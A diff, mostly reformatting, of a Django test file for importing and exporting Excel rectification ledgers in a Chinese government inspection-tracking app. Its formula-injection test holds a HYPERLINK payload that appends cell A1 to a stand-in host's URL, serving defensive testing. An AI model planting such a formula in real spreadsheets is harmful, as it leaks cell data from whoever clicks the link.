@@ -15,15 +15,14 @@ from django.core.exceptions import PermissionDenied, ValidationError
 from django.db.models import Max
 from openpyxl import Workbook, load_workbook
 
-from accounts.selectors import chain_verify
 from accounts.models import AuditEvent, Unit, User
+from accounts.selectors import chain_verify
 from accounts.services import audit_record, unit_create
 from rectification import services
 from rectification.access import measures_visible_to, permissions_sync_for_problem
 from rectification.demo import DEMO_ROUND_TITLE, demo_load
 from rectification.excel import exports
 from rectification.excel.imports import ImportRefused, ledger_plan, xlsx_check
-from rectification.services.ledger_import import ledger_import
 from rectification.models import (
     Aspect,
     DeadlineCategory,
@@ -39,12 +38,26 @@ from rectification.models import (
     ProblemUserObjectPermission,
 )
 from rectification.services import ledger as ledger_services
+from rectification.services.ledger_import import ledger_import
 
 TODAY = datetime.date(2026, 11, 26)
 
 PROBLEM_HEADERS = [
-    "问题编号", "方面", "专项", "反馈问题", "反馈原文", "具体表现", "问题类型", "整改时限类别", "整改时限",
-    "牵头领导", "责任领导", "牵头单位", "责任单位", "整改目标", "验收标准",
+    "问题编号",
+    "方面",
+    "专项",
+    "反馈问题",
+    "反馈原文",
+    "具体表现",
+    "问题类型",
+    "整改时限类别",
+    "整改时限",
+    "牵头领导",
+    "责任领导",
+    "牵头单位",
+    "责任单位",
+    "整改目标",
+    "验收标准",
 ]
 MEASURE_HEADERS = ["问题编号", "措施编号", "整改措施", "措施类别", "责任单位", "经办人", "完成时限", "预期成果"]
 
@@ -152,7 +165,11 @@ class TestImportPlan:
         assert list(problem.criteria.values_list("text", flat=True)) == ["违规费用全部追回", "出台公务用车管理办法"]
         assert set(problem.responsible_units.values_list("name", flat=True)) == {"责任局", "协办镇"}
         measure = problem.measures.get()
-        assert (measure.code, measure.owner_unit, measure.due_date) == ("2.1.1", world.resp_unit, datetime.date(2026, 10, 31))
+        assert (measure.code, measure.owner_unit, measure.due_date) == (
+            "2.1.1",
+            world.resp_unit,
+            datetime.date(2026, 10, 31),
+        )
         assert measure.start_date == world.round.feedback_date
         # Object permissions were synced by the services: the owner unit sees its new measure.
         assert measure in measures_visible_to(world.resp_staff)
@@ -188,13 +205,22 @@ class TestImportPlan:
         assert plan.problems[0].values["due_date"] == datetime.date(2027, 1, 31)
 
     def test_it_gives_long_term_measures_the_report_deadline(self, world, tmp_path):
-        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限类别="长期坚持", 整改时限="长期坚持")], [measure_row(完成时限="长期坚持")]))
+        plan = plan_for(
+            world,
+            ledger_file(
+                tmp_path,
+                [problem_row(整改时限类别="长期坚持", 整改时限="长期坚持")],
+                [measure_row(完成时限="长期坚持")],
+            ),
+        )
         assert plan.errors == []
         assert plan.measures[0].values["due_date"] == world.round.report_deadline
         assert "长期坚持" in str(plan.warnings[0])
 
     def test_a_long_term_measure_of_a_problem_with_an_earlier_date_takes_that_date(self, world, tmp_path):
-        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限="2026-11-30")], [measure_row(完成时限="长期坚持")]))
+        plan = plan_for(
+            world, ledger_file(tmp_path, [problem_row(整改时限="2026-11-30")], [measure_row(完成时限="长期坚持")])
+        )
         assert plan.errors == []
         assert plan.measures[0].values["due_date"] == datetime.date(2026, 11, 30) < world.round.report_deadline
         assert "按2026-11-30（整改报告报送期限与问题整改时限中较早者）" in str(plan.warnings[0])
@@ -215,7 +241,9 @@ class TestImportErrors:
     def test_it_suggests_for_a_missing_district_prefix_or_other_brackets(self, world, tmp_path, written, registered):
         unit_create(actor=None, name=registered, level=Unit.Level.DEPARTMENT, kind=Unit.Kind.GOVERNMENT)
         plan = plan_for(world, ledger_file(tmp_path, [problem_row(牵头单位=written)], []))
-        assert messages(plan) == [f"工作表“问题清单”第3行L列（牵头单位）：找不到单位“{written}”，是否为“{registered}”？"]
+        assert messages(plan) == [
+            f"工作表“问题清单”第3行L列（牵头单位）：找不到单位“{written}”，是否为“{registered}”？"
+        ]
 
     def test_it_names_the_unknown_leader_and_suggests_by_post(self, world, tmp_path):
         world.leader.title = "常务副区长"
@@ -230,7 +258,9 @@ class TestImportErrors:
 
     def test_it_refuses_duplicate_measure_codes(self, world, tmp_path):
         plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(), measure_row()]))
-        assert messages(plan) == ["工作表“任务清单”第4行B列（措施编号）：措施编号“2.1.1”在问题“2.1”下重复，第3行已有该编号。"]
+        assert messages(plan) == [
+            "工作表“任务清单”第4行B列（措施编号）：措施编号“2.1.1”在问题“2.1”下重复，第3行已有该编号。"
+        ]
 
     def test_it_refuses_missing_required_cells(self, world, tmp_path):
         rows = [problem_row(牵头单位=None, 问题类型="")]
@@ -261,7 +291,9 @@ class TestImportErrors:
 
     def test_it_refuses_a_due_date_before_the_start(self, world, tmp_path):
         plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(完成时限="2026-08-01")]))
-        assert messages(plan) == ["工作表“任务清单”第3行G列（完成时限）：完成时限（2026-08-01）早于开始日期（2026-09-01）。"]
+        assert messages(plan) == [
+            "工作表“任务清单”第3行G列（完成时限）：完成时限（2026-08-01）早于开始日期（2026-09-01）。"
+        ]
 
     def test_it_refuses_a_date_that_contradicts_the_category(self, world, tmp_path):
         plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限类别="限期整改", 整改时限="长期坚持")], []))
@@ -333,19 +365,39 @@ class TestMergedSingleSheet:
         plan = plan_for(world, self._workbook(tmp_path))
         assert plan.errors == []
         assert plan.layout.startswith("单张工作表")
-        assert [(d.problem_code, d.code) for d in plan.measures] == [("2.1", "2.1.1"), ("2.1", "2.1.2"), ("2.2", "2.2.1")]
+        assert [(d.problem_code, d.code) for d in plan.measures] == [
+            ("2.1", "2.1.1"),
+            ("2.1", "2.1.2"),
+            ("2.2", "2.2.1"),
+        ]
         ledger_import(actor=world.office, plan=plan)
         second = Problem.objects.get(round=world.round, code="2.2")
         assert second.aspect.title == "方面二"
-        assert list(second.measures.values_list("owner_unit__name", "due_date")) == [("协办镇", datetime.date(2026, 11, 30))]
+        assert list(second.measures.values_list("owner_unit__name", "due_date")) == [
+            ("协办镇", datetime.date(2026, 11, 30))
+        ]
         first = Problem.objects.get(round=world.round, code="2.1")
         assert set(first.responsible_units.values_list("name", flat=True)) == {"责任局", "协办镇"}
         assert first.measures.get(code="2.1.2").owner_unit == world.lead_unit
 
     def test_it_refuses_repeated_problem_cells_that_disagree(self, world, tmp_path):
         headers = [*PROBLEM_HEADERS, "措施编号", "整改措施", "措施类别", "措施责任单位", "完成时限"]
-        first = {**problem_row(), "措施编号": "2.1.1", "整改措施": "甲", "措施类别": "立行立改", "措施责任单位": "责任局", "完成时限": "2026-10-31"}
-        second = {**problem_row(牵头单位="责任局"), "措施编号": "2.1.2", "整改措施": "乙", "措施类别": "立行立改", "措施责任单位": "责任局", "完成时限": "2026-10-31"}
+        first = {
+            **problem_row(),
+            "措施编号": "2.1.1",
+            "整改措施": "甲",
+            "措施类别": "立行立改",
+            "措施责任单位": "责任局",
+            "完成时限": "2026-10-31",
+        }
+        second = {
+            **problem_row(牵头单位="责任局"),
+            "措施编号": "2.1.2",
+            "整改措施": "乙",
+            "措施类别": "立行立改",
+            "措施责任单位": "责任局",
+            "完成时限": "2026-10-31",
+        }
         path = xlsx(tmp_path / "a.xlsx", {"台账": (headers, [first, second])})
         assert messages(plan_for(world, path)) == [
             "工作表“台账”第4行L列（牵头单位）：与第3行（问题“2.1”）的“牵头单位”不一致；同一问题的各行应合并单元格或填写相同内容。"
@@ -442,7 +494,9 @@ class TestFormulaInjection:
     ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
 
     def test_it_stores_a_formula_as_text_and_exports_it_inert(self, world, tmp_path):
-        path = ledger_file(tmp_path, [problem_row(反馈问题="placeholder", 整改目标="+1-2")], [measure_row(经办人="@SUM(1)")])
+        path = ledger_file(
+            tmp_path, [problem_row(反馈问题="placeholder", 整改目标="+1-2")], [measure_row(经办人="@SUM(1)")]
+        )
         # Write the attack as a text cell, the way it arrives when typed as '=... in Excel.
         workbook = load_workbook(path)
         cell = workbook["问题清单"]["D3"]
@@ -534,7 +588,9 @@ class TestReimport:
         assert counts() == before
         problem = Problem.objects.get(round=world.round, code="2.1")
         assert (problem.title, problem.due_date, problem.lead_unit) == (
-            "公务用车管理仍不规范", datetime.date(2026, 12, 20), world.resp_unit
+            "公务用车管理仍不规范",
+            datetime.date(2026, 12, 20),
+            world.resp_unit,
         )
         measure = problem.measures.get(code="2.1.1")
         assert (measure.owner_unit, measure.handler_name) == (world.other_unit, "赵六")
@@ -551,8 +607,16 @@ class TestReimport:
 
     def test_it_warns_that_milestones_of_existing_measures_are_kept(self, world, tmp_path):
         headers = [*MEASURE_HEADERS, "时间节点"]
-        row = measure_row(问题编号="1.1", 措施编号="1.1.1", 整改措施=world.resp_measure.text, 措施类别="追缴资金",
-                          完成时限="2026-11-30", 经办人="", 预期成果="", 时间节点="2026-10-01 完成清理")
+        row = measure_row(
+            问题编号="1.1",
+            措施编号="1.1.1",
+            整改措施=world.resp_measure.text,
+            措施类别="追缴资金",
+            完成时限="2026-11-30",
+            经办人="",
+            预期成果="",
+            时间节点="2026-10-01 完成清理",
+        )
         path = xlsx(tmp_path / "a.xlsx", {"任务清单": (headers, [row])})
         plan = plan_for(world, path)
         assert plan.errors == []
@@ -593,13 +657,20 @@ class TestRoundTrip:
 
         before, after = load_workbook(io.BytesIO(first)), load_workbook(io.BytesIO(second))
         assert before.sheetnames == after.sheetnames == ["问题清单", "任务清单", "责任清单"]
-        for name, columns in (("问题清单", exports.cols.LEDGER_PROBLEM_COLUMNS), ("任务清单", exports.cols.LEDGER_MEASURE_COLUMNS)):
+        for name, columns in (
+            ("问题清单", exports.cols.LEDGER_PROBLEM_COLUMNS),
+            ("任务清单", exports.cols.LEDGER_MEASURE_COLUMNS),
+        ):
             imported = [index for index, column in enumerate(columns) if column.field]
-            rows_before = [tuple(row[i] for i in imported) for row in before[name].iter_rows(min_row=2, values_only=True)]
+            rows_before = [
+                tuple(row[i] for i in imported) for row in before[name].iter_rows(min_row=2, values_only=True)
+            ]
             rows_after = [tuple(row[i] for i in imported) for row in after[name].iter_rows(min_row=2, values_only=True)]
             assert len(rows_before) > 30
             assert rows_after == rows_before
-            assert {str(r) for r in before[name].merged_cells.ranges} == {str(r) for r in after[name].merged_cells.ranges}
+            assert {str(r) for r in before[name].merged_cells.ranges} == {
+                str(r) for r in after[name].merged_cells.ranges
+            }
         # The workflow states are not part of the ledger: the new round starts from the beginning.
         states = {row[-1] for row in after["任务清单"].iter_rows(min_row=3, values_only=True)}
         assert states == {"未申请"}
@@ -626,15 +697,29 @@ def _round_like(world, title):
     )
     aspect = services.aspect_create(actor=world.office, inspection_round=inspection_round, seq=1, title="方面一")
     problem = services.problem_create(
-        actor=world.office, inspection_round=inspection_round, aspect=aspect,
-        track=inspection_round.tracks.get(kind="general"), code="1.1", title="违规发放津补贴", text="原文",
-        problem_type=Problem.ProblemType.SPECIFIC, deadline_category=DeadlineCategory.BY_DATE,
-        due_date=datetime.date(2026, 12, 31), lead_official=world.leader, lead_unit=world.lead_unit,
+        actor=world.office,
+        inspection_round=inspection_round,
+        aspect=aspect,
+        track=inspection_round.tracks.get(kind="general"),
+        code="1.1",
+        title="违规发放津补贴",
+        text="原文",
+        problem_type=Problem.ProblemType.SPECIFIC,
+        deadline_category=DeadlineCategory.BY_DATE,
+        due_date=datetime.date(2026, 12, 31),
+        lead_official=world.leader,
+        lead_unit=world.lead_unit,
         responsible_units=[world.resp_unit],
     )
     services.measure_create(
-        actor=world.office, problem=problem, code="1.1.1", text="清理", kind=Measure.Kind.RECOVERY,
-        owner_unit=world.resp_unit, start_date=world.round.feedback_date, due_date=datetime.date(2026, 11, 30),
+        actor=world.office,
+        problem=problem,
+        code="1.1.1",
+        text="清理",
+        kind=Measure.Kind.RECOVERY,
+        owner_unit=world.resp_unit,
+        start_date=world.round.feedback_date,
+        due_date=datetime.date(2026, 11, 30),
     )
     return inspection_round
 
@@ -648,40 +733,58 @@ def _bulk_file(tmp_path, problems, measures_each, name):
     ]
     measure_rows = [
         measure_row(
-            问题编号=f"2.{p}", 措施编号=f"2.{p}.{m}", 整改措施=f"措施{p}.{m}", 责任单位=owners[(p + m) % 3],
+            问题编号=f"2.{p}",
+            措施编号=f"2.{p}.{m}",
+            整改措施=f"措施{p}.{m}",
+            责任单位=owners[(p + m) % 3],
             时间节点="2026-10-01 制定方案\n2026-11-15 完成清理",
         )
         for p in range(1, problems + 1)
         for m in range(1, measures_each + 1)
     ]
     measure_rows.append(measure_row(问题编号="1.1", 措施编号="1.1.9", 整改措施="补充措施", 责任单位="协办镇"))
-    return xlsx(tmp_path / name, {"问题清单": (PROBLEM_HEADERS, problem_rows), "任务清单": ([*MEASURE_HEADERS, "时间节点"], measure_rows)})
+    return xlsx(
+        tmp_path / name,
+        {"问题清单": (PROBLEM_HEADERS, problem_rows), "任务清单": ([*MEASURE_HEADERS, "时间节点"], measure_rows)},
+    )
 
 
 def _import_one_by_one(actor, plan):
     """What ``ledger_import`` did before it wrote new rows in bulk: each through the one-row services."""
     aspects = {aspect.title: aspect for aspect in plan.inspection_round.aspects.all()}
     for offset, title in enumerate(plan.new_aspects, start=len(aspects) + 1):
-        aspects[title] = services.aspect_create(actor=actor, inspection_round=plan.inspection_round, seq=offset, title=title)
+        aspects[title] = services.aspect_create(
+            actor=actor, inspection_round=plan.inspection_round, seq=offset, title=title
+        )
     saved, touched = {}, {}
     top = plan.inspection_round.problems.aggregate(top=Max("seq"))["top"] or 0
     for seq, draft in enumerate(plan.problems, start=top + 1):
         values = {**draft.values, "aspect": aspects.get(draft.values["aspect"], draft.values["aspect"])}
         saved[draft.code] = touched[draft.code] = services.problem_create(
-            actor=actor, inspection_round=plan.inspection_round, code=draft.code, seq=seq, sync_permissions=False, **values
+            actor=actor,
+            inspection_round=plan.inspection_round,
+            code=draft.code,
+            seq=seq,
+            sync_permissions=False,
+            **values,
         )
     for draft in plan.measures:
         problem = saved.get(draft.problem_code) or draft.problem
         touched[problem.code] = problem
         services.measure_create(
-            actor=actor, problem=problem, code=draft.code, seq=(problem.measures.aggregate(top=Max("seq"))["top"] or 0) + 1,
+            actor=actor,
+            problem=problem,
+            code=draft.code,
+            seq=(problem.measures.aggregate(top=Max("seq"))["top"] or 0) + 1,
             sync_permissions=False,
             **draft.values,
         )
     for problem in touched.values():
         permissions_sync_for_problem(problem)
     counts = {key: value for key, value in plan.summary().items() if value and not key.endswith("unchanged")}
-    audit_record(actor=actor, action="excel.import", target=plan.inspection_round, changes={"file": "", "sha256": "", **counts})
+    audit_record(
+        actor=actor, action="excel.import", target=plan.inspection_round, changes={"file": "", "sha256": "", **counts}
+    )
 
 
 def _written(inspection_round, audit_after, notices_after):
@@ -696,39 +799,91 @@ def _written(inspection_round, audit_after, notices_after):
 
     rows = {
         "problems": [
-            (p.code, p.seq, p.aspect.title, p.track.kind, p.title, p.text, p.problem_type, p.deadline_category, p.due_date,
-             p.goal, p.lead_official_id, p.lead_unit_id, p.campaign_id, p.previous_problem_id, p.is_secretary_led,
-             p.progress_state, p.closeout_state, sorted(u.pk for u in p.responsible_leaders.all()),
-             sorted(u.pk for u in p.responsible_units.all()), [(m.seq, m.text) for m in p.manifestations.all()],
-             [(c.seq, c.text, c.measure_id) for c in p.criteria.order_by("seq")])
+            (
+                p.code,
+                p.seq,
+                p.aspect.title,
+                p.track.kind,
+                p.title,
+                p.text,
+                p.problem_type,
+                p.deadline_category,
+                p.due_date,
+                p.goal,
+                p.lead_official_id,
+                p.lead_unit_id,
+                p.campaign_id,
+                p.previous_problem_id,
+                p.is_secretary_led,
+                p.progress_state,
+                p.closeout_state,
+                sorted(u.pk for u in p.responsible_leaders.all()),
+                sorted(u.pk for u in p.responsible_units.all()),
+                [(m.seq, m.text) for m in p.manifestations.all()],
+                [(c.seq, c.text, c.measure_id) for c in p.criteria.order_by("seq")],
+            )
             for p in Problem.objects.filter(round=inspection_round).order_by("seq")
         ],
         "measures": [
-            (measures[m.pk], m.seq, m.text, m.kind, m.owner_unit_id, m.handler_name, m.handler_phone, m.start_date,
-             m.due_date, m.expected_deliverable, m.progress_state, m.percent, m.claim_state, m.closeout_state,
-             [(s.seq, s.title, s.due_date, s.done_on) for s in m.milestones.all()])
+            (
+                measures[m.pk],
+                m.seq,
+                m.text,
+                m.kind,
+                m.owner_unit_id,
+                m.handler_name,
+                m.handler_phone,
+                m.start_date,
+                m.due_date,
+                m.expected_deliverable,
+                m.progress_state,
+                m.percent,
+                m.claim_state,
+                m.closeout_state,
+                [(s.seq, s.title, s.due_date, s.done_on) for s in m.milestones.all()],
+            )
             for m in Measure.objects.filter(problem__round=inspection_round).order_by("problem__seq", "seq")
         ],
         "grants": sorted(
-            [(g.group_id, g.permission.codename, problems[g.content_object_id]) for g in
-             ProblemGroupObjectPermission.objects.filter(content_object__round=inspection_round)]
-            + [(g.user_id, g.permission.codename, problems[g.content_object_id]) for g in
-               ProblemUserObjectPermission.objects.filter(content_object__round=inspection_round)]
-            + [(g.group_id, g.permission.codename, measures[g.content_object_id]) for g in
-               MeasureGroupObjectPermission.objects.filter(content_object__problem__round=inspection_round)]
-            + [(g.user_id, g.permission.codename, measures[g.content_object_id]) for g in
-               MeasureUserObjectPermission.objects.filter(content_object__problem__round=inspection_round)]
+            [
+                (g.group_id, g.permission.codename, problems[g.content_object_id])
+                for g in ProblemGroupObjectPermission.objects.filter(content_object__round=inspection_round)
+            ]
+            + [
+                (g.user_id, g.permission.codename, problems[g.content_object_id])
+                for g in ProblemUserObjectPermission.objects.filter(content_object__round=inspection_round)
+            ]
+            + [
+                (g.group_id, g.permission.codename, measures[g.content_object_id])
+                for g in MeasureGroupObjectPermission.objects.filter(content_object__problem__round=inspection_round)
+            ]
+            + [
+                (g.user_id, g.permission.codename, measures[g.content_object_id])
+                for g in MeasureUserObjectPermission.objects.filter(content_object__problem__round=inspection_round)
+            ]
         ),
         "notices": sorted(
             (n.recipient_id, n.kind, n.text, named(n.link), named(n.dedup_key), n.read_at)
             for n in Notification.objects.filter(pk__gt=notices_after)
         ),
     }
-    targets = {"rectification.problem": problems, "rectification.measure": measures, "rectification.aspect": aspects,
-               "rectification.inspectionround": {inspection_round.pk: "轮次"}}
+    targets = {
+        "rectification.problem": problems,
+        "rectification.measure": measures,
+        "rectification.aspect": aspects,
+        "rectification.inspectionround": {inspection_round.pk: "轮次"},
+    }
     rows["audit"] = [
-        (e.actor_id, e.action, e.target_type, targets[e.target_type][int(e.target_id)],
-         e.target_repr if e.target_type != "rectification.inspectionround" else "", e.changes, e.outcome, e.ip)
+        (
+            e.actor_id,
+            e.action,
+            e.target_type,
+            targets[e.target_type][int(e.target_id)],
+            e.target_repr if e.target_type != "rectification.inspectionround" else "",
+            e.changes,
+            e.outcome,
+            e.ip,
+        )
         for e in AuditEvent.objects.filter(pk__gt=audit_after).order_by("id")
     ]
     return rows
@@ -740,7 +895,10 @@ class TestBulkApply:
         User.objects.filter(pk__in=[world.resp_staff.pk, world.coop_staff.pk]).update(email="unit@example.cn")
         path = _bulk_file(tmp_path, problems=3, measures_each=2, name="a.xlsx")
         results = []
-        for title, apply in (("逐项导入轮次", _import_one_by_one), ("批量导入轮次", lambda actor, plan: ledger_import(actor=actor, plan=plan))):
+        for title, apply in (
+            ("逐项导入轮次", _import_one_by_one),
+            ("批量导入轮次", lambda actor, plan: ledger_import(actor=actor, plan=plan)),
+        ):
             inspection_round = _round_like(world, title)
             plan = plan_for(world, path, inspection_round)
             assert plan.errors == []
@@ -755,7 +913,10 @@ class TestBulkApply:
         one_by_one, bulk = results
         assert len(bulk["problems"]) == 4 and len(bulk["measures"]) == 8 and bulk["mails"]
         assert {action for _actor, action, *_rest in bulk["audit"]} == {
-            "aspect.create", "problem.create", "measure.create", "excel.import"
+            "aspect.create",
+            "problem.create",
+            "measure.create",
+            "excel.import",
         }
         for part in ("problems", "measures", "grants", "notices", "audit", "mails"):
             assert bulk[part] == one_by_one[part], part
@@ -772,7 +933,9 @@ class TestBulkApply:
     def test_its_queries_do_not_grow_with_the_file(self, world, tmp_path, django_assert_num_queries):
         for problems, measures_each in ((2, 2), (6, 3)):
             inspection_round = _round_like(world, f"导入轮次{problems}")
-            plan = plan_for(world, _bulk_file(tmp_path, problems, measures_each, name=f"{problems}.xlsx"), inspection_round)
+            plan = plan_for(
+                world, _bulk_file(tmp_path, problems, measures_each, name=f"{problems}.xlsx"), inspection_round
+            )
             assert plan.summary()["measures_created"] == problems * measures_each + 1
             # Aspects (read, and one created through its service), new problems with their
             # leaders, units and texts, measures with milestones, notices, the grants of every
@@ -783,15 +946,22 @@ class TestBulkApply:
         assert chain_verify()[0] is None
 
     def test_it_refuses_a_measure_due_after_its_problem_in_the_preview(self, world, tmp_path):
-        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-31")]))
+        plan = plan_for(
+            world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-31")])
+        )
         assert messages(plan) == [
             "工作表“任务清单”第3行G列（完成时限）：措施完成时限（2026-10-31）不能晚于问题“2.1”的整改时限（2026-10-15）。"
         ]
 
     def test_it_changes_an_existing_measure_under_the_rules_of_the_decomposition_page(self, world, tmp_path):
         row = measure_row(
-            问题编号="1.1", 措施编号="1.1.1", 整改措施=world.resp_measure.text, 措施类别="追缴资金", 经办人="",
-            完成时限="2026/12/15", 预期成果="",
+            问题编号="1.1",
+            措施编号="1.1.1",
+            整改措施=world.resp_measure.text,
+            措施类别="追缴资金",
+            经办人="",
+            完成时限="2026/12/15",
+            预期成果="",
         )
         plan = plan_for(world, ledger_file(tmp_path, None, [row]))
         assert plan.errors == []
@@ -804,13 +974,16 @@ class TestBulkApply:
         assert world.resp_measure.due_date == datetime.date(2026, 11, 30)
 
     def test_confirming_a_plan_made_stale_by_a_change_of_the_problem_writes_nothing(self, world, tmp_path):
-        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-15")]))
+        plan = plan_for(
+            world, ledger_file(tmp_path, [problem_row(整改时限="2026-10-15")], [measure_row(完成时限="2026-10-15")])
+        )
         assert plan.errors == []
         # Between preview and confirmation the problem's deadline moves earlier than the measure's.
         next(d for d in plan.problems if d.code == "2.1").values["due_date"] = datetime.date(2026, 10, 1)
         before, audits = counts(), AuditEvent.objects.count()
         with pytest.raises(ValidationError) as refused:
             ledger_import(actor=world.office, plan=plan)
-        assert refused.value.messages == ["措施“2.1.1”：措施完成时限（2026-10-15）不能晚于问题的整改时限（2026-10-01）。"]
+        assert refused.value.messages == [
+            "措施“2.1.1”：措施完成时限（2026-10-15）不能晚于问题的整改时限（2026-10-01）。"
+        ]
         assert (counts(), AuditEvent.objects.count()) == (before, audits)
-
